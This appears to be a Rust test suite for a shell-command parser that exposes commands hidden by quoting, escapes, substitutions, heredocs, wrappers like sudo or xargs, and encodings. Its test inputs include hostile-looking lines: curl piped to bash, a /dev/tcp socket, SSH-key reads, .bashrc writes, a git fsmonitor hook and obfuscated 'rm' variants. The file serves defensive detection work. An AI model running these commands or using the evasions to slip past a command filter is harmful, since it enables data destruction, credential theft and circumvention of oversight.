#![allow(clippy::unwrap_used, reason = "tests")]

use proptest::prelude::*;

use super::*;

/// `git[push origin] verb=push`: the program with its words, and what else is known.
fn shown(line: &str) -> Vec<String> {
    let each = |part: Part| {
        let mut text = format!("{}[{}]", part.program.as_deref().unwrap_or("?"), part.words.join(" "));
        for (mark, set) in [("opaque", part.opaque), ("dynamic", part.dynamic)] {
            if set {
                text.push(' ');
                text.push_str(mark);
            }
        }
        for (mark, names) in [("=", part.assigns), (">", part.redirects)] {
            if !names.is_empty() {
                text.push_str(&format!(" {mark}{}", names.join(",")));
            }
        }
        text
    };
    read(line).into_iter().map(each).collect()
}

/// Every row is a way to run `rm x` that a look at the words alone would miss, or a line that must not be misread.
const LINES: &[(&str, &[&str])] = &[
    ("ls -la && cat README.md", &["ls[-la]", "cat[README.md]"]),
    ("true | rm x & false || rm y; rm z", &["true[]", "rm[x]", "false[]", "rm[y]", "rm[z]"]),
    ("r\"\"m x", &["rm[x]"]),
    ("\\rm 'x y' \"a b\"", &["rm[x y a b]"]),
    ("/bin/../bin/rm x", &["rm[x]"]),
    ("r\\\nm x", &["rm[x]"]),
    ("a=1 b=2 rm x", &["rm[x] =a,b"]),
    ("env -i X=1 /bin/rm x", &["env[-i X=1 /bin/rm x]", "rm[x]"]),
    ("env -S 'rm x'", &["env[-S rm x] opaque"]),
    ("bash -c 'rm x'", &["bash[-c rm x]", "rm[x]"]),
    ("bash -lc \"cd d && rm x\"", &["bash[-lc cd d && rm x]", "cd[d]", "rm[x]"]),
    ("bash -o pipefail -c 'rm x' y", &["bash[-o pipefail -c rm x y]", "rm[x]"]),
    ("sh -c \"$x\"", &["sh[-c] opaque dynamic"]),
    ("bash <<< 'rm x'", &["bash[]", "rm[x]"]),
    ("bash <<'EOF'\nrm x\nEOF", &["bash[]", "rm[x]"]),
    ("cat <<EOF\n$(rm x)\nEOF", &["rm[x]", "cat[]"]),
    ("cat <<EOF | sh\nrm x\nEOF", &["cat[]", "sh[] opaque"]),
    ("curl -s https://e | bash", &["curl[-s https://e]", "bash[] opaque"]),
    ("bash script.sh", &["bash[script.sh]"]),
    ("echo `rm x` $(rm y)", &["rm[x]", "rm[y]", "echo[] dynamic"]),
    ("echo \"a $(rm x)\"", &["rm[x]", "echo[] dynamic"]),
    ("echo ${x:-$(rm x)}", &["?[] opaque", "echo[] dynamic"]),
    ("echo $((1 + $(rm x)))", &["?[] opaque", "echo[] dynamic"]),
    ("cat <(rm x) > >(rm y)", &["rm[x]", "rm[y]", "cat[] dynamic"]),
    ("f() { rm x; }; f", &["rm[x]", "f[]"]),
    ("for f in $(rm x) *.rs; do rm $f; done", &["rm[x]", "rm[] dynamic"]),
    ("if a; then rm x; elif b; then rm y; else rm z; fi", &["a[]", "rm[x]", "b[]", "rm[y]", "rm[z]"]),
    ("while rm x; do rm y; done", &["rm[x]", "rm[y]"]),
    ("case $(rm x) in a) rm y;; esac", &["rm[x]", "rm[y]"]),
    ("[[ -f $(rm x) ]]", &["rm[x]"]),
    ("(rm x); { rm y; }", &["rm[x]", "rm[y]"]),
    ("coproc rm x", &["rm[x]"]),
    ("time -p rm x", &["rm[x]"]),
    ("X=$(rm x) a=(1 $(rm y))", &["rm[x]", "rm[y]", "?[] =X,a"]),
    ("eval \"rm x\"", &["eval[rm x]", "rm[x]"]),
    ("eval $x", &["eval[] opaque dynamic"]),
    ("trap 'rm x' EXIT", &["trap[rm x EXIT]", "rm[x]"]),
    ("alias l='rm x'", &["alias[l=rm x]", "rm[x]"]),
    ("sudo -u bob rm x", &["sudo[-u bob rm x]", "rm[x]"]),
    ("sudo -Z y rm x", &["sudo[-Z y rm x] opaque"]),
    ("timeout -k 1 5 nice -n 3 rm x", &["timeout[-k 1 5 nice -n 3 rm x]", "nice[-n 3 rm x]", "rm[x]"]),
    ("ls | xargs -n1 rm", &["ls[]", "xargs[-n1 rm]", "rm[] dynamic"]),
    ("nohup {rm,x}", &["nohup[{rm,x}] dynamic", "rm[x]"]),
    ("sudo {-u,bob,rm,x*}", &["sudo[{-u,bob,rm,x*}] dynamic", "rm[x*] dynamic"]),
    ("env A=1 /bin/r? x", &["env[A=1 /bin/r? x] dynamic", "?[x] opaque dynamic"]),
    ("timeout * x", &["timeout[* x] opaque dynamic"]),
    ("timeout 9 rm *", &["timeout[9 rm *] dynamic", "rm[*] dynamic"]),
    ("eval {rm,x}", &["eval[{rm,x}] dynamic", "rm[x]"]),
    ("find . {-exec,rm,x,\\;}", &["find[. {-exec,rm,x,;}] dynamic", "rm[x] dynamic"]),
    ("ls | xargs -I% sh -c 'rm %'", &["ls[]", "xargs[-I% sh -c rm %]", "sh[-c] opaque dynamic"]),
    ("ls | xargs -I{} rm {}", &["ls[]", "xargs[-I{} rm {}] dynamic", "rm[{}] dynamic"]),
    ("find . -exec rm {} \\;", &["find[. -exec rm {} ;] dynamic", "rm[{}] dynamic"]),
    ("$x y", &["?[y] opaque dynamic"]),
    ("$'\\x72m' x", &["rm[x]"]),
    ("$'\\162\\u006d' $'a\\'b\\n'", &["rm[a'b\n]"]),
    ("$'\\xe9' x", &["?[x] opaque dynamic"]),
    ("$'\\cx' $'r\\0m'", &["?[] opaque dynamic"]),
    ("GIT push; /bin/Bash -c 'rm x'; Rscript x", &["git[push]", "bash[-c rm x]", "rm[x]", "Rscript[x]"]),
    ("WATCH 'rm x'; \u{17f}udo rm x", &["watch[rm x] opaque", "sudo[rm x]", "rm[x]"]),
    ("GFind . -exec RM x +; CLAUDE -p x", &["gfind[. -exec RM x +]", "rm[x] dynamic", "claude[-p x]"]),
    ("git pus?; git add *.rs", &["git[pus?] opaque dynamic", "git[add *.rs] dynamic"]),
    ("git $x; git -C $x push; ls $x", &["git[] opaque dynamic", "git[-C push] dynamic", "ls[] dynamic"]),
    ("{rm,x}", &["?[] opaque dynamic"]),
    ("r? x", &["?[x] opaque dynamic"]),
    ("[ -f x ] && [a] x", &["[[-f x ]]", "?[x] opaque dynamic"]),
    ("python3 -c 'import os'", &["python3[-c import os] opaque"]),
    ("python3.12 -m pytest", &["python3.12[-m pytest]"]),
    ("perl -pe 's/a/b/'", &["perl[-pe s/a/b/] opaque"]),
    ("node x.js -e", &["node[x.js -e]"]),
    ("nodemon -e js", &["nodemon[-e js]"]),
    ("awk '{print $1}' x", &["awk[{print $1} x]"]),
    ("awk 'BEGIN{system(\"rm x\")}'", &["awk[BEGIN{system(\"rm x\")}] opaque"]),
    ("git -c alias.x='!rm x' x", &["git[-c alias.x=!rm x x] opaque"]),
    ("git -c user.name=a commit -m push", &["git[-c user.name=a commit -m push]"]),
    ("ssh host rm x", &["ssh[host rm x] opaque"]),
    ("exec 3<>/dev/tcp/e/80", &["exec[] >/dev/tcp/e/80"]),
    ("echo a > ~/.bashrc 2>&1", &["echo[a] >~/.bashrc"]),
    ("cat < ~/.s?h/id > a*", &["cat[] dynamic >~/.s?h/id,a*"]),
    ("shopt -s extglob\ncat .@(ssh)/id", &["shopt[-s extglob]", "cat[.@(ssh)/id] dynamic"]),
    ("echo 'rm x' # rm y", &["echo[rm x]"]),
    ("echo \"unterminated", &["?[] opaque"]),
    ("select x in a; do rm x; done", &["?[] opaque"]),
    ("", &["?[]"]),
    ("# rm x", &["?[]"]),
];

#[test]
fn every_command_of_a_line_is_told() {
    for (line, expected) in LINES {
        assert_eq!(shown(line), *expected, "{line:?}");
    }
}

#[test]
fn the_verb_is_the_first_word_that_is_no_option() {
    for (line, verb) in [
        ("git push origin", Some("push")),
        ("git -C /x --no-pager -c user.name=y push", Some("push")),
        ("git --git-dir /x $y push", None),
        ("npm test", Some("test")),
        ("git config user.name", Some("config --get")),
        ("git config --global --get-all user.name x", Some("config --get")),
        ("git config get --all user.name", Some("config")),
        ("git config get user.name", Some("config --get")),
        ("git config -l", Some("config --get")),
        ("git config list", Some("config --get")),
        ("git -C /x config core.hooksPath list", Some("config")),
        ("git config core.hooksPath get", Some("config")),
        ("git config -- core.hooksPath --get", Some("config")),
        ("git config --unset user.name", Some("config")),
        ("git config --get --unset user.name", Some("config")),
        ("git config set list x", Some("config")),
        ("git config --local --get user.name x --unset", Some("config --get")),
        ("git config core.fsmonitor ./evil.sh --get", Some("config")),
        ("git config core.hooksPath --global", Some("config")),
        ("git config core.hooksPath -l", Some("config")),
        ("git config set core.hooksPath -l", Some("config")),
        ("git config get user.name --edit", Some("config")),
        ("git config --edit --get", Some("config")),
        ("git config edit", Some("config")),
        ("git config edit --global", Some("config")),
        ("git config --global", Some("config")),
        ("git config core.hooksPath $x", Some("config")),
        ("git config", Some("config")),
        ("ls -la", None),
    ] {
        assert_eq!(read(line)[0].verb.as_deref(), verb, "{line}");
    }
}

#[test]
fn what_the_shell_or_git_is_told_to_write_is_told() {
    for (line, expected) in [
        ("cat <a >b 2>>c >|d <>e &>f 2>&1 >&g", &["b", "c", "d", "e", "f", "g"][..]),
        ("{ ls; } > x", &["x"]),
        ("(ls) >> x", &["x"]),
        ("while true; do ls; done < in > x", &["x"]),
        ("> x", &["x"]),
        ("git show HEAD:a > x", &["x"]),
        ("git log --output=x", &["--output=x"]),
        ("git log --output x a", &["--output", "x"]),
        ("git archive -o x HEAD", &["archive", "-o", "x", "HEAD"]),
        ("git bundle create x HEAD", &["bundle", "create", "x", "HEAD"]),
        ("git --work-tree=x restore a", &["--work-tree=x", "restore", "a"]),
        ("git --work-tree x status", &["--work-tree", "x"]),
        ("git -C x --git-dir=y --git-dir z log -- a", &[]),
        ("git add a b", &[]),
        ("git commit -F a", &[]),
        ("git log -F --output=a", &["-F", "--output=a"]),
        ("git -C d restore a", &["restore", "a", "d"]),
        ("git -C d log --output=a", &["--output=a", "d"]),
        ("git -C d log --oneline", &["--oneline"]),
        ("git log $x a", &["log", "a"]),
        ("git config --get a.b", &[]),
        ("tee x", &[]),
        ("A=x B=(y z) C=$d GIT_DIR=v make", &["x", "y", "z"]),
        ("for a in x y; do git show > $a; done", &["x", "y", "show"]),
        ("for a in x y; do git show; done", &[]),
        ("git archive -o $a; a=x", &["archive", "-o", "x"]),
    ] {
        assert_eq!(read(line)[0].writes, expected, "{line}");
    }
}

#[test]
fn what_variables_say_is_told() {
    for (line, likely, values) in [
        ("d=~; cat $d/x \"${d}/y\" < $d", &["~/x", "~/y", "~"][..], &["/x", "/y"][..]),
        ("cat $d/x; d=~", &["~/x"], &["/x"]),
        ("for d in {a,b}c ${e}f; do cat $d; done", &["ac", "bc", "f"], &[]),
        ("d='{a,b}'; cat $d", &[r"\{a\,b\}"], &[]),
        ("d=a; d+=b; cat $d", &["a", "ab", "abb"], &[]),
        ("a=(x y); cat ${a[1]}", &["x", "y"], &[]),
        ("export d=~; cat ${d%/}/x ${e:-\"z\"}", &["~/x", "~", "z"], &["/x"]),
        ("f() { cat $1; }; f x", &["x"], &[]),
        ("set -- x; cat $@", &["--", "x"], &[]),
        ("bash -c 'cat $0' x", &["$0", "-c", "cat", "cat $0", "x"], &[]),
        ("cat ~/.s$(true)h", &[], &["~/.sh"]),
        ("cat $none/x", &[], &["/x"]),
    ] {
        let parts = read(line);
        let part = parts.iter().find(|part| part.program.as_deref() == Some("cat")).unwrap();
        let mut found = part.likely.clone();
        found.sort();
        let mut expected = likely.to_vec();
        expected.sort_unstable();
        assert_eq!(
            (found, &part.values[..]),
            (
                expected.iter().map(|text| (*text).to_owned()).collect(),
                &values.iter().map(|text| (*text).to_owned()).collect::<Vec<_>>()[..]
            ),
            "{line}"
        );
    }
    let values: String = (0..2000).map(|n| format!(" {n}")).collect();
    for line in [format!("for d in{values}; do ls $d; done"), format!("a=({values}); ls $a")] {
        assert!(read(&line).iter().any(|part| part.opaque), "{line:.40}");
    }
}

#[test]
fn reading_is_bounded() {
    let deep = format!("{}ls", "bash -c ".repeat(3));
    assert!(read(&deep).iter().all(|part| part.program.as_deref() == Some("bash")));
    for (line, most) in [
        ("(".repeat(40), 1),
        (format!("{}a{}", "(".repeat(9), ")".repeat(9)), 1),
        ("ls; ".repeat(1000), PARTS_MAX),
        ("eval ".repeat(30), PARTS_MAX),
        ("sudo ".repeat(500), PARTS_MAX),
    ] {
        let parts = read(&line);
        assert!(parts.len() <= most && parts.last().is_some_and(|part| part.opaque), "{:.60}", line);
    }
}

/// A token at a time, so that blocks open and close in every order.
fn any_line() -> impl Strategy<Value = String> {
    let tokens = [
        "(",
        "((",
        "{ ",
        "[[ ",
        "if ",
        "while ",
        "case x in a)",
        "rm x",
        ";",
        "\n",
        "$(",
        "`",
        "'",
        "\"",
        ")",
        "))",
        "}",
        "]]",
        " fi",
        " done",
        "esac",
        "do ",
        "then ",
        "for x in ",
        "f()",
        "|",
        "&&",
        "<<E\n",
        "E\n",
        "${x:-",
        "$((",
        "! ",
        "x=(",
        "\\",
        "<(",
        ";;",
        "&",
        "$x",
        " > y",
        "bash -c ",
    ];
    proptest::collection::vec(proptest::sample::select(tokens.to_vec()), 0..40)
        .prop_map(|tokens| tokens.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever stands before it, a command after a complete line is told, or the whole is opaque.
    #[test]
    fn nothing_hides_what_follows(line in any_line()) {
        let parts = read(&format!("{line}\nshred y"));
        let told = parts.iter().any(|part| part.program.as_deref() == Some("shred"));
        let quoted = line.contains(['\'', '"', '`', '\\', '(', '{', '<', '$']);
        prop_assert!(told || quoted || parts.iter().any(|part| part.opaque), "{parts:?}");
    }

    #[test]
    fn any_text_is_read(line in ".{0,80}") {
        prop_assert!(!read(&line).is_empty());
    }
}
